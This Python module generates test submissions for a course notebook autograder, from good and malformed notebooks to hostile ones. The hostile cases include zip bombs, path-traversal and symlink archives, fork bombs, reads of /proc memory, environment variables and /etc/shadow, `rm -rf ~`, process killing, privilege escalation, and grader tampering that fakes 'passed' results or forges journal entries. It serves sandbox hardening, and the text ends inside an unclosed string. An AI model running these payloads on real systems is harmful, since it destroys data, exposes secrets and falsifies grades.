"""Submissions as a class hands them in: a few good ones, many clumsy, and some hostile.

`build` writes them all into a folder. Most are the same short notebook of lesson 03, which
earns two points: 03.1 and 03.2 are right, 03.3 is a known mistake, 03.4 is untouched. What is
special about one stands between 03.1 and 03.2, so that a grade shows whether the rest still
counts. An attack that gets through sets ``breach``; then, and only then, the notebook answers
03.4 rightly, so that each hole in the wall shows as a third point.

No attack does harm where there is no wall: each looks for the folder of the host first, which
a sandbox does not show.
"""

import io
import json
import os
import stat
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from functools import cache
from pathlib import Path
from tempfile import TemporaryDirectory
from textwrap import dedent

from course.exercises.verbs import exercises
from course.start.copies import copy_lessons

NEEDLE = ("factor = factor", " * volume")  # of the solution of 03.4; apart, not to find itself
ENVIRONMENT = "AMUR_CORPUS_SECRET"  # a variable of the teacher's

_RIGHT = 'real_growth = ((volume.loc[2011:2015, "RU-AMU"] / 100).prod() - 1) * 100'
_ANSWERS = {
    "03.1": """
        chukotka_per_head = 1e6 * grp.loc[2017, "RU-CHU"] / people.loc[2017, "RU-CHU"]
        course.check("03.1", chukotka_per_head)
        """,
    "03.2": """
        heads = grp.loc[2017] / people.loc[2017]
        percent_of_russia = round(100 * heads["RU-FEFD"] / heads["RU-SUM"])
        course.check("03.2", percent_of_russia)
        """,
    "03.3": """
        lead = {2014: 1.0, 2019: 2.0}
        course.check("03.3", lead)
        """,
    "03.4": f"""
        real_growth = ...
        if globals().get("breach") is True:
            {_RIGHT}
        course.check("03.4", real_growth)
        """,
}
_NEEDED = ["l03-title", "l03-wide", "l03-people", "l03-ask-1", "l03-try-1", "l03-try-2",
           "l03-invest-rows", "l03-try-3", "l03-volume", "l03-try-4"]  # fmt: skip
# what a bomb has started takes time from the next cell, on a busy machine all that it has
BUSY = {"03.1": "passed", "03.2": {"passed", "not yet"}, "03.3": "not yet",
        "03.4": {"not attempted", "not yet"}}  # fmt: skip
LESS = {"not yet", "not attempted", "cannot tell"}  # whatever else, it scores nothing
HONEST = {"03.1": "passed", "03.2": "passed", "03.3": "not yet", "03.4": "not attempted"}


@dataclass(frozen=True)
class Host:
    """What an attack might reach: all of it must be as it was after a batch."""

    folder: Path  # of the teacher, beside the submissions
    port: int  # on which the teacher's machine listens
    socket: str  # of a program of the teacher's
    abstract: str  # another one's name, without a file


@dataclass
class Case:
    """One submission and what a grader must say of it."""

    name: str
    write: Callable[[Path, Host], None]
    earns: dict[str, str | set[str]] = field(default_factory=lambda: dict(HONEST))
    told: str = ""  # a pattern for the teacher's words on it; "" means not a word
    says: str = ""  # a pattern for the student's words on an exercise
    lesson: str = "03"
    graded: bool = True  # False: nothing in it can be
    attack: str = ""  # code that breaches where there is no wall
    slow: bool = False  # runs into a limit


@cache
def lesson(number: str) -> str:
    """Return a student's stamped copy of a lesson, as JSON."""
    with TemporaryDirectory() as folder:
        copy_lessons(Path(folder))
        return next(Path(folder).glob(f"{number}_*.ipynb")).read_text(encoding="utf-8")


def code(source: str, cell_id: str) -> dict:
    """Return a code cell as JupyterLab writes it."""
    return {"cell_type": "code", "id": cell_id, "metadata": {}, "outputs": [],
            "execution_count": None, "source": dedent(source).strip("\n")}  # fmt: skip


def short(*between: str, **answers: str) -> dict:
    """Return the short notebook of lesson 03, with cells between 03.1 and 03.2."""
    book = json.loads(lesson("03"))
    kept = {cell["id"]: cell for cell in book["cells"]}
    cells = [kept[name] for name in _NEEDED]
    given = {f"03.{name[1:]}": text for name, text in answers.items()}
    for cell in cells:
        if number := cell["metadata"].get("exercise"):
            cell["source"] = dedent((_ANSWERS | given)[number]).strip("\n")
    at = cells.index(kept["l03-try-2"])
    cells[at:at] = [code(source, f"own-{n}") for n, source in enumerate(between)]
    book["cells"] = [code("import course", "own-import"), *cells]
    return book


def solved(number: str) -> dict:
    """Return a whole lesson with the solutions of the course."""
    book, tasks = json.loads(lesson(number)), exercises(number)
    for cell in book["cells"]:
        if name := cell["metadata"].get("exercise"):
            cell["source"] = tasks[name].solution
    return book


def small(number: str, **answers: str) -> dict:
    """Return a notebook of one lesson with cells of its own."""
    book = json.loads(lesson(number))
    book["cells"] = [code(text, name) for name, text in answers.items()]
    return book


def dump(book: dict) -> bytes:
    """Return the bytes of a notebook's file."""
    return json.dumps(book, ensure_ascii=False, indent=1).encode()


def find(book: dict, exercise: str) -> dict:
    """Return the cell of an exercise."""
    return next(c for c in book["cells"] if c["metadata"].get("exercise") == exercise)


# --- ways to hand in ---------------------------------------------------------------------


def folder_of(make: Callable[[], dict | bytes], file: str = "03_the_far_east.ipynb", **more):
    """Hand in a folder with a notebook, and other files if any."""

    def write(at: Path, host: Host) -> None:
        book = make()
        data = book if isinstance(book, bytes) else dump(book)
        for name, content in {file: data, **more}.items():
            path = at.joinpath(*name.split("/"))
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(content)

    return write


def zip_of(fill: Callable[[zipfile.ZipFile, Host], None], data: bytes = b""):
    """Hand in a zip."""

    def write(at: Path, host: Host) -> None:
        held = io.BytesIO()
        with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as file:
            fill(file, host)
        at.with_name(f"{at.name}.zip").write_bytes(data or held.getvalue())

    return write


CASES: list[Case] = []


def good(name: str, make: Callable[[], dict | bytes] = short, **more) -> None:
    """Add a case about which nothing is to be said."""
    CASES.append(Case(name, more.pop("write", None) or folder_of(make), **more))


def odd(name: str, told: str, make: Callable[[], dict | bytes] = short, **more) -> None:
    """Add a case of which the teacher must be told."""
    good(name, make, told=told, **more)


def attack(
    name: str, source: str, told: str = "", *, slow: bool = False, times: int = 1, **more
) -> None:
    """Add the short notebook with a cell that attacks; it is told where the host is."""
    text = dedent(source).strip("\n")
    CASES.append(Case(name, lambda at, host: folder_of(lambda: armed(text, host, times))(at, host),
                      told=told, attack=text, slow=slow, **more))  # fmt: skip


def armed(text: str, host: Host, times: int) -> dict:
    """Return the short notebook with an attack that knows the host."""
    return short(knows(host), *[text] * times)


def knows(host: Host) -> str:
    """Return the cell that tells where the host is, and whether there is a wall."""
    told = {key: str(value) if isinstance(value, Path) else value
            for key, value in vars(host).items()}  # fmt: skip
    return (
        f"import os\n\nhost = {told!r}\nwall = not os.path.exists(host['folder'])\n"
        f"breach = not wall\nneedle = ''.join({NEEDLE!r})"
    )


def build(folder: Path, host: Host, names: set[str] | None = None) -> None:
    """Write the submissions.

    Args:
        folder: an empty one.
        host: what the hostile ones are told about the machine.
        names: of the cases; all if None.
    """
    for case in CASES:
        if names is None or case.name in names:
            case.write(folder / case.name, host)


# --- the good ------------------------------------------------------------------------------

for student in ["ada", "Анна Петрова", "李 明", "Бат-Эрдэнэ", 'O\'Brien "Bob" <b>&amp;']:
    good(student)
good("=cmd|' !A0")
good("@SUM(1+1)", write=lambda at, host: at.with_suffix(".ipynb").write_bytes(dump(short())))
good("bare", write=lambda at, host: at.with_name("bare_03_the_far_east.ipynb").write_bytes(
    dump(short())))  # fmt: skip
good("zipped", write=zip_of(lambda file, host: file.writestr("x/03.ipynb", dump(short()))))
good("bom", lambda: b"\xef\xbb\xbf" + dump(short()))
good("crlf", lambda: dump(short()).replace(b"\n", b"\r\n"))
good("beside", write=folder_of(short, **{
    ".ipynb_checkpoints/03_the_far_east-checkpoint.ipynb": dump(short()),
    "__MACOSX/._03_the_far_east.ipynb": b"\0\5\x16\7", ".DS_Store": b"\0", "notes.txt": b"hi",
    "course_journal/ab.jsonl": b"{"}))  # fmt: skip
good("shell", lambda: short(
    "import asyncio\nawait asyncio.sleep(0)\n%time 1 + 1\nget_ipython().run_line_magic('pwd', '')",
    "from IPython.display import display, HTML\ndisplay(HTML('<b>x</b>'))\ncourse.progress()",
))  # fmt: skip
good(
    "drawing", lambda: short('m = course.area_map("far_east")\nm', "course.explore.far_east()")
)
_ALL = {"01": 8, "03": 8}  # exercises that a machine can decide
for number, count in _ALL.items():
    odd(f"solved_{number}", "solution", lambda n=number: solved(n), lesson=number,
        earns={f"{number}.{n}": "passed" for n in range(1, count + 1)}
        | {f"{number}.9": "to judge"})  # fmt: skip

# --- the clumsy -----------------------------------------------------------------------------


def duplicated() -> dict:
    """Return a notebook that has a cell twice, the second time wrong."""
    book = short()
    book["cells"].append(find(book, "03.1") | {"source": "course.check('03.1', 5)"})
    return book


def moved() -> dict:
    """Return a notebook whose first answer was moved to the end."""
    book = short()
    book["cells"].append(book["cells"].pop(book["cells"].index(find(book, "03.1"))))
    return book


def split() -> dict:
    """Return a notebook with an answer and its check in two cells, as JupyterLab splits."""
    book = short()
    cell = find(book, "03.2")
    *first, last = cell["source"].splitlines()
    cell["source"] = "\n".join(first)
    rest = cell | {"id": "split-off", "source": last}
    book["cells"].insert(book["cells"].index(cell) + 1, rest)
    return book


def deleted() -> dict:
    """Return a notebook without the cells of 03.2 and 03.4."""
    book = short()
    gone = [find(book, "03.2"), find(book, "03.4")]
    book["cells"] = [cell for cell in book["cells"] if cell not in gone]
    return book


def as_type(kind: str) -> dict:
    """Return a notebook in which an answer stands in a cell of another type."""
    book = short()
    cell = find(book, "03.2")
    cell["cell_type"] = kind
    del cell["outputs"], cell["execution_count"]
    return book


def bare_ids() -> dict:
    """Return a notebook from which a tool took ids, stamps and all metadata."""
    book = short()
    book["metadata"] = {}
    for cell in book["cells"]:
        cell["metadata"] = {}
        del cell["id"]
    return book | {"nbformat_minor": 2}


def unstamped() -> dict:
    """Return a notebook made from the lesson itself, without stamps."""
    book = short()
    book["metadata"].pop("course_copy")
    for cell in book["cells"]:
        cell["metadata"].pop("course", None)
    return book


def of_version_3() -> dict:
    """Return the notebook in the format of 2014."""
    cells = [
        {"cell_type": "code", "language": "python", "collapsed": False, "metadata": {},
         "outputs": [], "input": cell["source"], "prompt_number": 1}
        for cell in short()["cells"] if cell["cell_type"] == "code"
    ]  # fmt: skip
    return {"nbformat": 3, "nbformat_minor": 0, "metadata": {"name": ""},
            "worksheets": [{"cells": cells, "metadata": {}}]}  # fmt: skip


def foreign() -> dict:
    """Return a notebook of another course."""
    book = small("03", own="x = 1\nx + 1")
    book["metadata"] = {"kernelspec": {"name": "python3", "display_name": "Python 3"}}
    return book


def with_outputs(text: str) -> dict:
    """Return a notebook whose saved outputs say something."""
    book = short()
    for cell in book["cells"]:
        if cell["cell_type"] == "code":
            cell["outputs"] = [{"output_type": "stream", "name": "stdout", "text": text}]
    return book


def with_widgets() -> dict:
    """Return a notebook whose saved widget state would run in a browser."""
    book = short()
    state = {
        "model_name": "AnyModel", "model_module": "anywidget", "model_module_version": "~0.9.0",
        "state": {"_esm": "export default {render() { fetch('https://example.org') }}"},
    }  # fmt: skip
    kind = "application/vnd.jupyter.widget-state+json"
    book["metadata"]["widgets"] = {kind: {"version_major": 2, "state": {"x" * 32: state}}}
    return book


good("moved", moved)
good("split", split)
good("duplicated", duplicated)
good("unstamped", unstamped)
good("ids_stripped", bare_ids)
good("widgets", with_widgets)
good("outputs_50_mb", lambda: with_outputs("✓ Passed " * 400_000))
_gone = HONEST | {"03.2": "not attempted"}
good("deleted", deleted, earns=_gone)
good("as_markdown", lambda: as_type("markdown"), earns=HONEST | {"03.2": LESS},
     says="no code cell")  # fmt: skip
good("as_raw", lambda: as_type("raw"), earns=HONEST | {"03.2": LESS}, says="no code cell")
good("syntax", lambda: short("this is (not python"))
good("failing", lambda: short("1 / 0"))
good("wrong_name", write=folder_of(short, "05_the_mongolia_corridor.ipynb"))
good("resets", lambda: short("%reset -f", "import course"),
     earns=HONEST | {"03.2": LESS}, says="stops before the check. NameError")  # fmt: skip
good("loop", lambda: short("for n in range(0, 1000):\n    course.check('03.4', n / 1000)"),
     earns=HONEST | {"03.4": LESS})  # fmt: skip
odd("cells_of_guesses", "answered in 20 cells", lambda: short(
    *[f"course.check('03.4', {n})" for n in range(20)]),
    earns=HONEST | {"03.4": LESS})  # fmt: skip
good("inputs", lambda: short("name = input('Who are you? ')"))
good("prints", lambda: short('print("✓ Passed 03.4")', 'print(\'{"03.4": "passed"}\' * 99)'))
good("cp1251", lambda: dump(short("# Привет")).decode().encode("cp1251"), told="(?i)utf-8",
     )  # fmt: skip
good("utf_16", lambda: dump(short()).decode().encode("utf-16"))
odd("no_notebook", "(?i)no notebook", write=lambda at, host: at.mkdir(), graded=False)
odd("empty_zip", "(?i)no notebook", write=zip_of(lambda file, host: None), graded=False)
odd("no_zip", "(?i)zip", write=zip_of(lambda file, host: None, b"PK\3\4 nothing"), graded=False)
odd("empty_file", "(?i)notebook", lambda: b"", graded=False)
odd("a_picture", "(?i)notebook", lambda: b"\x89PNG\r\n\x1a\n\0\0", graded=False)
odd("other_json", "(?i)notebook", lambda: b'{"a": [1, 2]}', graded=False)
odd("half_a_file", "(?i)notebook", lambda: dump(short())[:5000], graded=False)
odd("version_3", "(?i)save it in jupyterlab", of_version_3, graded=False)
odd("foreign", "(?i)course|lesson", foreign, graded=False)
odd("twice", "2 notebooks", write=folder_of(
    short, **{"03_old.ipynb": dump(short(t2='course.check("03.2", 5)'))}))  # fmt: skip
CASES.append(Case("both", write=lambda at, host: (
    folder_of(short)(at, host),
    zip_of(lambda file, host: file.writestr("03.ipynb", dump(deleted())))(at, host)),
    told="2 notebooks"))  # fmt: skip

# --- the hostile files ------------------------------------------------------------------------


def _bomb(file: zipfile.ZipFile, host: Host) -> None:
    """300 MB in 0.3; one says so, one says it is small."""
    with file.open("03_the_far_east.ipynb", "w", force_zip64=True) as member:
        for _again in range(300):
            member.write(bytes(1_000_000))


def _thousands(file: zipfile.ZipFile, host: Host) -> None:
    for n in range(30_000):
        file.writestr(f"{n}.ipynb", b"")


def _climbing(file: zipfile.ZipFile, host: Host) -> None:
    for name in ["../climbed.ipynb", f"{host.folder}/climbed.ipynb", "..\\climbed.ipynb"]:
        file.writestr(name, dump(short()))


def _linking(file: zipfile.ZipFile, host: Host) -> None:
    link = zipfile.ZipInfo("03_the_far_east.ipynb")
    link.create_system, link.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
    file.writestr(link, f"{host.folder}/secret.ipynb")


def _lying() -> bytes:
    """Return a zip whose one member is larger than it says."""
    packer = zlib.compressobj(1, zlib.DEFLATED, -15)
    packed = b"".join(packer.compress(bytes(1_000_000)) for _ in range(200)) + packer.flush()
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as file:
        file.writestr("03.ipynb", packed)
        file.filelist[0].compress_type, file.filelist[0].file_size = zipfile.ZIP_DEFLATED, 999
    data = bytearray(held.getvalue())
    data[8:10] = b"\x08\0"  # the method, in the header of the member itself
    return bytes(data)


def _special(make: Callable[[Path, Host], None]):
    def write(at: Path, host: Host) -> None:
        at.mkdir()
        make(at / "03_the_far_east.ipynb", host)

    return write


odd("zip_bomb", "(?i)large|big|MB", write=zip_of(_bomb), graded=False)
odd("zip_lying", ".", write=zip_of(lambda file, host: None, _lying()), graded=False)
odd("zip_thousands", "(?i)only the first", write=zip_of(_thousands), graded=False)
good("zip_climbing", write=zip_of(_climbing))
odd("zip_linking", "(?i)notebook|link", write=zip_of(_linking), graded=False)
odd("a_link", "(?i)link|notebook", graded=False,
    write=_special(lambda at, host: at.symlink_to(host.folder / "secret.ipynb")))  # fmt: skip
odd("a_pipe", ".", write=_special(lambda at, host: os.mkfifo(at)), graded=False)
odd("a_device", ".", write=_special(lambda at, host: at.symlink_to("/dev/zero")), graded=False)
odd("deep_json", "(?i)notebook", lambda: b"[" * 200_000, graded=False)
odd("many_cells", "1,000 cells", lambda: short(*["1"] * 30_000),
    earns={"03.1": "passed", "03.2": LESS, "03.3": LESS})  # fmt: skip
good("package_beside", write=folder_of(short, **{
    "course/__init__.py": b"def check(*a): print('passed')\n__version__ = '9'"}))  # fmt: skip
good(
    "modules_beside",
    write=folder_of(
        short,
        **{f"{name}.py": b"raise SystemExit('ours')" for name in ["json", "pandas", "IPython"]},
    ),
)

# --- the hostile cells: they use what they must not -------------------------------------------

_ENDLESS = "(?i)too long|too much memory"
attack("endless", "while True:\n    pass", _ENDLESS, slow=True)
attack("endless_stubborn", """
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass
    """, _ENDLESS, slow=True)  # fmt: skip
attack("endless_deaf", """
    import signal
    for number in range(1, 65):
        try:
            signal.signal(number, signal.SIG_IGN)
            signal.pthread_sigmask(signal.SIG_BLOCK, {number})
        except (OSError, ValueError):
            pass
    signal.setitimer(signal.ITIMER_REAL, 0)
    while True:
        pass
    """, _ENDLESS, slow=True)  # fmt: skip
attack("endless_compiled", "sum(range(10**13))", _ENDLESS, slow=True)
attack("sleeper", "import time\ntime.sleep(9999)", _ENDLESS, slow=True)
attack("fork_bomb", """
    while wall:
        try:
            os.fork()
        except OSError:
            pass
    """, _ENDLESS, slow=True, earns=BUSY)  # fmt: skip
attack("fork_once", "if wall:\n    os.fork()")
attack("thread_bomb", """
    import threading, time
    while wall:
        try:
            threading.Thread(target=time.sleep, args=(9999,)).start()
        except RuntimeError:
            time.sleep(0.01)
    """, _ENDLESS, slow=True, earns=BUSY)  # fmt: skip
attack("list_10_gb", "if wall:\n    a_list = [0] * (10 * 2**30 // 8)", slow=True)
attack("memory_of_many", """
    import time
    for n in range(20):
        if wall and os.fork() == 0:
            held = bytearray(os.urandom(1) * (100 * 2**20))
            time.sleep(9999)
    time.sleep(9999)
    """, _ENDLESS, slow=True)  # fmt: skip
# memory that no process maps; in several cells, since each has little time
attack(
    "memory_of_memfd",
    """
    held = globals().get("held", [])
    for n in range(30 if wall else 0):
        held.append(os.memfd_create(str(n)))
        for again in range(10):
            os.write(held[-1], bytes(2**20))
    breach |= len(held) * 10 * 2**20 > 1.5 * 10**9
    """,
    ".?",
    slow=True,
    times=6,
)
attack(
    "memory_of_shm",
    """
    import ctypes
    libc, total = ctypes.CDLL(None), globals().get("total", 0)
    libc.shmat.restype = ctypes.c_void_p
    for n in range(6 if wall else 0):
        part = libc.shmget(0, 50 * 2**20, 0o1600)
        at = libc.shmat(part, None, 0)
        if part >= 0:
            ctypes.memset(at, 1, 50 * 2**20)
            libc.shmdt(ctypes.c_void_p(at))
            total += 50 * 2**20
    breach |= total > 1.5 * 10**9
    """,
    ".?",
    slow=True,
    times=6,
)
attack("memory_of_semaphores", """
    import ctypes
    libc, sets = ctypes.CDLL(None), 0
    while wall and sets < 300 and libc.semget(0, 32000, 0o1600) >= 0:
        sets += 1
    breach |= sets > 99
    """, slow=True)  # fmt: skip
attack("output_1_gb", 'for n in range(1000):\n    print("x" * 10**6)', told=".?", slow=True)
attack("output_raw", """
    while wall:
        os.write(1, b"x" * 10**6)
        os.write(2, b"x" * 10**6)
    """, _ENDLESS, slow=True)  # fmt: skip
attack("disk_1_gb", """
    if wall:
        for place in [os.path.expanduser("~"), "/tmp", "/dev/shm", "."]:
            try:
                with open(os.path.join(place, "large"), "wb") as file:
                    for n in range(1000):
                        file.write(bytes(10**6))
                breach = True
            except OSError:
                pass
    """, slow=True)  # fmt: skip
attack("answer_huge", 'course.check("03.4", "9" * 10**8)', ".?", slow=True)
attack(
    "answer_endless",
    """
    def more():
        while True:
            yield 1
    course.check("03.4", list)
    course.check("03.4", {n: n for n in range(10**6)})
    course.check("03.4", (n for n in more()))
    """,
    earns=HONEST | {"03.4": LESS},
)
attack(
    "floods_checks",
    """
    import course
    for n in range(2000):
        course.check("03.3", n)
    """,
    ".?",
    slow=True,
    earns=HONEST | {"03.3": LESS},
)

# --- ... reach for what is not theirs ---------------------------------------------------------

attack("network", """
    import socket
    try:
        socket.create_connection(("127.0.0.1", host["port"]), 2).sendall(host["abstract"].encode())
        breach = True
    except OSError:
        pass
    for name in ["example.org", socket.gethostname() + ".local"]:
        try:
            socket.getaddrinfo("example.org", 80)
            breach = True
        except OSError:
            pass
    """)  # fmt: skip
attack("other_networks", """
    import socket
    for family in range(17, 64 if wall else 0):
        for kind in (1, 2, 3, 5):
            try:
                socket.socket(family, kind).close()
                breach = True
            except OSError:
                pass
    """)  # fmt: skip
attack("takes_from_all", """
    import ctypes, signal
    libc, watches, signals = ctypes.CDLL(None), 0, 0
    while wall and watches < 99 and libc.inotify_init() >= 0:
        watches += 1
    signal.pthread_sigmask(signal.SIG_BLOCK, {40})
    while wall and signals < 9999 and libc.sigqueue(os.getpid(), 40, None) == 0:
        signals += 1
    breach |= watches > 20 or signals > 999
    """)  # fmt: skip
attack("unix_socket", """
    import socket
    for where in [host["socket"], chr(0) + host["abstract"]]:
        with socket.socket(socket.AF_UNIX) as client:
            try:
                client.connect(where)
                breach = True
            except OSError:
                pass
    """)  # fmt: skip
attack("reads_answers", """
    from course.exercises.verbs import exercise
    task = exercise("03.4")
    breach |= needle in str(task.solution)
    try:
        breach |= abs(task.answer() - 0.534) < 0.01
    except Exception:
        pass
    """)  # fmt: skip
attack("asks_solution", 'breach |= needle in str(vars(course.solution("03.4")))')
attack("asks_hints", """
    for n in range(9):
        breach |= "factor" in str(vars(course.hint("03.4")))
    """)  # fmt: skip
attack("reads_package", """
    import glob, sys
    ours = os.path.dirname(os.path.dirname(course.__file__))
    for place in [ours, *sys.path, os.path.dirname(host["folder"]), "/home", "/tmp", "/srv"]:
        if breach or place in ("", "/") or "site-packages" in place:
            continue
        for name in ["course", "lessons", "tests", "*/course", "*/*/course"]:
            for path in glob.glob(os.path.join(place, name, "**"), recursive=True):
                if path.endswith((".py", ".pyc", ".md", ".json", ".ipynb")):
                    try:
                        with open(path, "rb") as file:
                            breach |= needle.encode() in file.read()
                    except OSError:
                        pass
    """)  # fmt: skip
attack("reads_memory", """
    import glob
    for path in glob.glob("/proc/[0-9]*"):
        if int(path[6:]) in (os.getpid(),):
            continue
        try:
            with open(path + "/maps") as maps, open(path + "/mem", "rb", 0) as memory:
                for line in maps:
                    ends, rights = line.split()[:2]
                    low, high = (int(end, 16) for end in ends.split("-"))
                    if rights.startswith("rw") and high - low < 2**28:
                        memory.seek(low)
                        try:
                            breach |= needle.encode() in memory.read(high - low)
                        except OSError:
                            pass
        except (OSError, ValueError):
            pass
    """)  # fmt: skip
attack("reads_own_memory", """
    import gc, sys
    for thing in gc.get_objects():
        if type(thing) is dict:
            breach |= any(type(one) is str and one != needle and needle in one
                          for one in list(thing.values()))
        elif type(thing).__name__ == "Exercise":
            breach |= needle in str(thing.solution)
    """)  # fmt: skip
attack("reads_environment", f"""
    import glob
    breach |= "{ENVIRONMENT}" in os.environ
    for path in glob.glob("/proc/[0-9]*/environ"):
        try:
            with open(path, "rb") as file:
                breach |= b"{ENVIRONMENT}" in file.read()
        except OSError:
            pass
    """)  # fmt: skip
attack("sees_processes", """
    import glob
    for path in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            with open(path, "rb") as file:
                breach |= b"submissions" in file.read()
        except OSError:
            pass
    """)  # fmt: skip
attack("reads_others", """
    import glob
    for path in ["/", os.getcwd(), os.path.dirname(host["folder"])]:
        breach |= bool(glob.glob(os.path.join(path, "*", "ada")))
        breach |= bool(glob.glob(os.path.join(path, "..", "ada")))
    breach |= os.path.exists("/etc/shadow") and os.access("/etc/shadow", os.R_OK)
    """)  # fmt: skip
attack("opens_descriptors", """
    names = {}
    for n in range(3, 1024):
        try:
            names[n] = os.readlink(f"/proc/self/fd/{n}")
        except OSError:
            pass
    breach |= any(host["folder"] in name or name.endswith((".ipynb", ".csv", ".json"))
                  for name in names.values())
    for n, name in names.items():
        for way in ["..", "../..", "../../.."]:
            try:
                breach |= "submissions" in os.listdir(f"/proc/self/fd/{n}/{way}")
            except OSError:
                pass
    """)  # fmt: skip
attack("writes_outside", """
    spots = [host["folder"], os.path.dirname(host["folder"]), "/etc", "/usr/lib", "/var/tmp",
             "/opt", "/root", "/home", os.path.dirname(course.__file__), *os.sys.path]
    for spot in spots:
        try:
            path = os.path.join(spot, "amur_corpus_was_here")
            with open(path, "w") as file:
                file.write("!")
            shown = os.path.realpath(path)
            if not shown.startswith((os.path.expanduser("~"), "/tmp", "/dev/shm")):
                breach = True
            os.remove(path)
        except OSError:
            pass
    """)  # fmt: skip
attack("overwrites_answers", """
    import pathlib
    from course import paths
    roots = [pathlib.Path(course.__file__).parent, paths.data_dir(), paths.lessons_dir()]
    for root in roots if wall else []:
        for path in [*root.rglob("*.py"), *root.rglob("*.csv")]:
            try:
                path.write_text("")
                breach = True
            except OSError:
                pass
    """)  # fmt: skip
attack("deletes_data", """
    import shutil
    from course import paths
    if wall:
        for root in [paths.data_dir(), paths.lessons_dir(), paths.data_dir().parent / "course"]:
            shutil.rmtree(root, ignore_errors=True)
            breach |= not (root / "claims.csv").exists() and root == paths.data_dir()
    """)  # fmt: skip
attack("rm_rf", "if wall:\n    get_ipython().system('rm -rf ~ $TMPDIR . 2>/dev/null')")
attack("mounts", """
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    if wall:
        libc.unshare(0x10000000 | 0x00020000)
        for flags in (32 | 4096, 32):
            libc.mount(b"none", b"/usr", None, flags, None)
        for place in (b"/proc", b"/tmp", b"/usr", b"/dev"):
            libc.umount2(place, 2)
        try:
            with open("/usr/amur_corpus_was_here", "w"):
                breach = True
        except OSError:
            pass
        breach |= os.path.exists(host["folder"])
    """)  # fmt: skip
attack("raises_limits", """
    import resource
    for name in [name for name in dir(resource) if name.startswith("RLIMIT_")]:
        kind = getattr(resource, name)
        soft, hard = resource.getrlimit(kind)
        if hard != resource.RLIM_INFINITY:
            try:
                resource.setrlimit(kind, (hard * 2 + 2, hard * 2 + 2))
                breach = True
            except (OSError, ValueError):
                pass
    breach |= os.getuid() == 0 and os.path.exists("/proc/1/root/etc/shadow") and not wall
    """)  # fmt: skip
attack("becomes_root", """
    with open("/proc/self/status") as file:
        said = dict(line.split(":", 1) for line in file)
    breach |= int(said["CapEff"], 16) != 0 or said["NoNewPrivs"].strip() != "1"
    for become in [lambda: os.setuid(0), lambda: os.setgroups([0])]:
        try:
            become()
            breach |= os.access("/etc/shadow", os.R_OK)
        except OSError:
            pass
    """)  # fmt: skip

# --- ... end what runs them -------------------------------------------------------------------

_DIED = "(?i)ends the whole"
attack("kills_all", """
    import signal
    if wall:
        for pid in [os.getppid(), 1, -1, 0, *range(2, 400)]:
            try:
                if pid != os.getpid():
                    os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
    """, ".?")  # fmt: skip
attack(
    "kills_parent", "import signal\nif wall:\n    os.kill(os.getppid(), signal.SIGKILL)", ".?"
)
attack("stops_itself", "import signal\nos.kill(os.getpid(), signal.SIGSTOP)", ".?", slow=True)
attack("exits", "if wall:\n    os._exit(0)", _DIED)
attack("exits_late", "import atexit\natexit.register(os._exit, 0)\nraise SystemExit", ".?")
attack("sys_exits", "import sys\nsys.exit()", ".?")
attack("segfaults", "import ctypes\nif wall:\n    ctypes.string_at(0)", _DIED)
attack("recurses", """
    import sys
    sys.setrecursionlimit(10**9)
    def f():
        return f()
    if wall:
        f()
    """, ".?", slow=True)  # fmt: skip
attack("becomes_another", "if wall:\n    os.execv('/bin/sleep', ['sleep', '9999'])", _ENDLESS,
       slow=True)  # fmt: skip
attack("closes_all", "if wall:\n    os.closerange(0, 4096)", ".?", slow=True)
attack("survives", """
    import subprocess, sys, threading, time
    text = "import time\\nwhile True: time.sleep(0.1)"
    if wall:
        threading.Thread(target=time.sleep, args=(9999,)).start()
        threading.Thread(target=time.sleep, args=(9999,), daemon=True).start()
        subprocess.Popen([sys.executable, "-c", text], start_new_session=True)
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                time.sleep(9999)
            os._exit(0)
    """)  # fmt: skip

# --- ... and say what is not so ---------------------------------------------------------------

_REPLACED = "(?i)check"
attack("replaces_check", """
    from course.exercises.show import Feedback
    course.check = lambda name, answer=...: Feedback(name, "passed", "Well done")
    """, _REPLACED, earns=HONEST | {"03.2": LESS | {"passed"}, "03.3": LESS, "03.4": LESS})  # fmt: skip
attack("replaces_course", """
    import sys, types
    fake = types.ModuleType("course")
    fake.check = lambda name, answer=...: print("✓ Passed")
    fake.load = course.load
    course = sys.modules["course"] = fake
    """, _REPLACED, earns=HONEST | {"03.2": LESS | {"passed"}, "03.3": LESS, "03.4": LESS})  # fmt: skip
attack("replaces_judging", """
    from course.exercises import verbs, values, explain, exercise as room
    from course.exercises.exercise import Exercise
    from course.exercises.show import Feedback
    Exercise.decide = lambda self, plain: ("passed", "")
    Exercise.judge = lambda self, answer, seed=None: Feedback(self.id, "passed", "")
    for home in (values, room):
        home.same = home.close = lambda *a, **k: True
    course.check("03.4", 99)
    """, ".?", earns=HONEST | {"03.4": LESS, "03.3": LESS, "03.2": LESS | {"passed"}})  # fmt: skip
attack(
    "replaces_reading",
    """
    from course.exercises.exercise import Exercise
    Exercise.read = lambda self, answer, seed=None: {
        "form": "number", "status": "passed", "value": 0, "passed": True, "points": 99}
    course.check("03.4", 99)
    """,
    ".?",
    earns=HONEST
    | {
        "03.4": LESS,
        "03.3": LESS,
        "03.2": LESS | {"passed"},
    },
)
attack("replaces_json", """
    import json
    kept = json.dumps
    json.dumps = lambda *a, **k: kept(*a, **k).replace("not yet", "passed")
    json.JSONEncoder.encode = lambda self, thing: '{"exercise": "03.4", "status": "passed"}'
    """, ".?", earns=HONEST | {"03.2": LESS | {"passed"}, "03.3": LESS})  # fmt: skip
attack("forges_journal", """
    from course.exercises import journal
    for name in ["03.3", "03.4"]:
        journal.record("check", name, status="passed")
    row = '{"v": 1, "time": "2026-11-28T11:56:34Z", "session": "9f3c", "n": 3, "event": "check",'
    row += ' "exercise": "03.4", "course": "2026.11.0", "status": "passed"}'
    for place in {os.getcwd(), os.path.expanduser("~"), os.environ.get("COURSE_FOLDER", ".")}:
        os.makedirs(os.path.join(place, "course_journal"), exist_ok=True)
        with open(os.path.join(place, "course_journal", "9f3c.jsonl"), "a") as file:
            file.write(row)
